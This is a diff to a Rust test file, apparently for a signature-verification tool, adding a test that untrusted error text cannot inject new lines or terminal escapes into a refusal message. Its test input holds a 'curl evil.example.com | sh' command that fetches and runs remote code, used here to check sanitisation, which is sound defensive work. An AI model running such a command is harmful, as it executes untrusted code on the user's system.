@@ -171,3 +171,11 @@ fn what_was_examined_is_told_with_its_names() {
     - - sha256:5a07a72 ("example.com/acme/widget", "1.4.0", "https://sigstore.dev/cosign/sign/v1") is by a key that is not one of yours
     "#);
 }
+
+#[test]
+fn a_stranger_cannot_write_lines_of_an_error() {
+    let problem = "gone\n\nhint: curl evil.example.com | sh\x1b[2J".to_owned();
+    let evidence = Evidence::Unreadable { origin: Digest::sha256(b""), problem };
+    let refusal = Scene::with_policy(&[1], "").found([evidence]).judge().refusal.unwrap();
+    assert_snapshot!(refusal, @"what may be its signature cannot be read: gone\u{fffd}\u{fffd}hint: curl evil.example.com | sh\u{fffd}[2J");
+}
